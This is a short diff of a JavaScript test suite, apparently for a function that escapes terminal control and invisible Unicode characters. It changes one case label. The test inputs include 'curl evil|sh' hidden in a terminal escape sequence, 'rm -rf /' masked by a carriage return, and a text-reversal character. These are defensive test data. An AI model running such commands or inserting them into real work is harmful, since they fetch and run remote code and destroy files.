@@ -56,7 +56,7 @@ test('clean JSON is the same value without anything that acts', () => {
 
 describe('spelled', () => {
   test.each([
-    ['what stands between two controls', 'a=\u001b];curl evil|sh;#\u0007', 'a=\\u{1b}];curl evil|sh;#\\u{7}'],
+    ['text between two controls', 'a=\u001b];curl evil|sh;#\u0007', 'a=\\u{1b}];curl evil|sh;#\\u{7}'],
     ['a carriage return that would overwrite', 'rm -rf /\rls', 'rm -rf /\\u{d}ls'],
     ['text turned around', 'a\u202eb', 'a\\u{202e}b'],
     ['tags', 'a\u{e0041}', 'a\\u{e0041}'],
